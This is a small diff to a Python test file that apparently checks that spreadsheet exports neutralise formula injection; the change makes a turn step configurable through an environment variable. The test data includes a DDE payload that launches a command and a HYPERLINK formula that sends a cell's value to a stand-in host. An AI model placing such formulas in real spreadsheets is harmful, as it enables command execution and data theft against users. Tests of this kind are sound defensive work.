@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import os
 
 import openpyxl
 import pytest
@@ -21,7 +22,8 @@ SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
 BEFORE = ("\t", "\n", "\r\n", " ", "　", "'", '"', "{")
 ATTACKS = ("=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&C4,"看")', "@SUM(A1:A9)", "+86 10 1234", "-5")
 TEXTS = (*(f"{sign}1+1" for sign in SIGNS), *(f"{before}=1+1" for before in BEFORE), *ATTACKS)
-TURNS = range(len(TEXTS)) if FULL else (0,)  # which text comes first: in all turns, each text is in each cell
+# Which text comes first. In all turns by hand (XXGK_TURNS=1) each text is in each cell.
+TURNS = range(0, len(TEXTS), int(os.environ.get("XXGK_TURNS", 7))) if FULL else (0,)
 
 
 def cells_of(data: bytes, kind: str) -> set[tuple[str, str]]:
